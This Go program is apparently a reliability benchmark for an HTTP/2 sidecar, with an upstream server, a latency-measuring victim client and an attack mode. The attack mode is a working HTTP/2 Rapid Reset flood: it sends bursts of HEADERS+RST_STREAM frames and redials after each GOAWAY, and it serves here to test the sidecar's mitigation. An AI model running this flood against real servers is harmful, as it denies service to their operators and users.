// Command rapidreset is the upstream, the victim and the attacker of
// bench/rapidreset.sh (RELIABILITY.md T8), each run as its own process so
// that the sidecar's CPU and the victim's latency are not mixed with the
// attacker's:
//
//	rapidreset upstream -listen ADDR       an h2c server answering "ok"
//	rapidreset victim -addr ADDR -d 3s     sequential h2c GETs; prints latency percentiles
//	rapidreset attack -addr ADDR -d 5s     HEADERS+RST_STREAM pairs, redialling after GOAWAY
package main

import (
	"bufio"
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/signal"
	"slices"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: rapidreset upstream|victim|attack [flags]")
		os.Exit(2)
	}
	fs := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	listen := fs.String("listen", "127.0.0.1:0", "upstream: listen address")
	addr := fs.String("addr", "", "victim, attack: the sidecar's address")
	d := fs.Duration("d", 3*time.Second, "victim, attack: how long to run")
	pairs := fs.Int("pairs", 100_000, "attack: HEADERS+RST_STREAM pairs per connection at most")
	fs.Parse(os.Args[2:])
	var err error
	switch os.Args[1] {
	case "upstream":
		err = upstream(*listen)
	case "victim":
		err = victim(*addr, *d)
	case "attack":
		err = attack(*addr, *d, *pairs)
	default:
		err = fmt.Errorf("unknown mode %q", os.Args[1])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "rapidreset:", err)
		os.Exit(1)
	}
}

// upstream serves h2c and, on SIGTERM, prints how many requests reached it
// and the most it had in flight at once (T8: at most max_concurrent_streams).
func upstream(listen string) error {
	var total, inflight, peak atomic.Int64
	h := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		n := inflight.Add(1)
		for p := peak.Load(); n > p && !peak.CompareAndSwap(p, n); p = peak.Load() {
		}
		total.Add(1)
		io.WriteString(w, "ok")
		inflight.Add(-1)
	})
	ln, err := net.Listen("tcp", listen)
	if err != nil {
		return fmt.Errorf("upstream: %w", err)
	}
	fmt.Println(ln.Addr())
	var protos http.Protocols
	protos.SetHTTP1(true)
	protos.SetUnencryptedHTTP2(true)
	srv := &http.Server{Handler: h, Protocols: &protos, HTTP2: &http.HTTP2Config{MaxConcurrentStreams: 1000}, ReadHeaderTimeout: 5 * time.Second}
	go srv.Serve(ln)
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	<-sig
	fmt.Printf("upstream requests=%d peak_inflight=%d\n", total.Load(), peak.Load())
	return nil
}

// victim sends sequential GETs over one h2c connection for d and prints
// the latency percentiles in milliseconds.
func victim(addr string, d time.Duration) error {
	var protos http.Protocols
	protos.SetUnencryptedHTTP2(true)
	tr := &http.Transport{Protocols: &protos}
	c := &http.Client{Transport: tr, Timeout: 5 * time.Second}
	get := func() error {
		resp, err := c.Get("http://" + addr + "/")
		if err != nil {
			return err
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 {
			return fmt.Errorf("status %d", resp.StatusCode)
		}
		return nil
	}
	for range 50 { // warm the connection and the sidecar's upstream pool
		if err := get(); err != nil {
			return fmt.Errorf("victim warm-up: %w", err)
		}
	}
	var lat []time.Duration
	errs := 0
	for end := time.Now().Add(d); time.Now().Before(end); {
		s := time.Now()
		if err := get(); err != nil {
			errs++
			continue
		}
		lat = append(lat, time.Since(s))
	}
	if len(lat) == 0 {
		return fmt.Errorf("victim: no request succeeded (%d errors)", errs)
	}
	slices.Sort(lat)
	pct := func(p float64) float64 { return float64(lat[int(float64(len(lat)-1)*p)].Microseconds()) / 1000 }
	fmt.Printf("n=%d errors=%d p50=%.3f p90=%.3f p99=%.3f max=%.3f\n", len(lat), errs, pct(.5), pct(.9), pct(.99), pct(1))
	return nil
}

// attack opens a connection, writes up to pairs HEADERS+RST_STREAM pairs as
// fast as the socket takes them, and redials as soon as the sidecar sends
// GOAWAY or closes, until d is over. It prints per-connection GOAWAY times.
func attack(addr string, d time.Duration, pairs int) error {
	// Pre-encode the whole burst once: the attacker's cost is then writes.
	var blk bytes.Buffer
	enc := hpack.NewEncoder(&blk)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "victim"}, {":path", "/"}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	var burst bytes.Buffer
	fr := http2.NewFramer(&burst, nil)
	burst.WriteString(http2.ClientPreface)
	fr.WriteSettings()
	for i, s := 0, uint32(1); i < pairs; i, s = i+1, s+2 {
		fr.WriteHeaders(http2.HeadersFrameParam{StreamID: s, BlockFragment: blk.Bytes(), EndHeaders: true, EndStream: true})
		fr.WriteRSTStream(s, http2.ErrCodeCancel)
	}
	per := (burst.Len() - len(http2.ClientPreface) - 9) / pairs

	var conns, goaways, written int
	var toGoaway []time.Duration
	var first time.Duration // the first connection's, before any penalty
	other := map[string]int{}
	end := time.Now().Add(d)
	for time.Now().Before(end) {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			other["dial: "+err.Error()]++
			time.Sleep(10 * time.Millisecond) // a refused dial returns at once; do not spin
			continue
		}
		conns++
		start := time.Now()
		type verdict struct {
			what string
			at   time.Time
		}
		got := make(chan verdict, 1)
		go func() {
			rf := http2.NewFramer(io.Discard, bufio.NewReader(c))
			for {
				f, err := rf.ReadFrame()
				if err != nil {
					got <- verdict{"closed", time.Now()}
					return
				}
				if ga, ok := f.(*http2.GoAwayFrame); ok {
					got <- verdict{ga.ErrCode.String(), time.Now()}
					return
				}
			}
		}()
		c.SetWriteDeadline(end)
		b := burst.Bytes()
		n := 0
		for len(b) > 0 && len(got) == 0 {
			k, err := c.Write(b[:min(len(b), 64<<10)])
			n += k
			b = b[k:]
			if err != nil {
				break
			}
		}
		written += n / per
		var v verdict
		select {
		case v = <-got:
		case <-time.After(time.Until(end) + time.Second):
			v = verdict{"none", time.Now()}
		}
		c.Close()
		if v.what == http2.ErrCodeEnhanceYourCalm.String() {
			goaways++
			if goaways == 1 {
				first = v.at.Sub(start)
			}
			toGoaway = append(toGoaway, v.at.Sub(start))
		} else {
			other[v.what]++
		}
	}
	slices.Sort(toGoaway)
	fmt.Printf("attack conns=%d pairs_written=%d goaway_enhance_your_calm=%d other=%v", conns, written, goaways, other)
	if len(toGoaway) > 0 {
		fmt.Printf(" goaway_after_ms first=%.1f min=%.1f median=%.1f max=%.1f", ms(first), ms(toGoaway[0]), ms(toGoaway[len(toGoaway)/2]), ms(toGoaway[len(toGoaway)-1]))
	}
	fmt.Println()
	return nil
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }
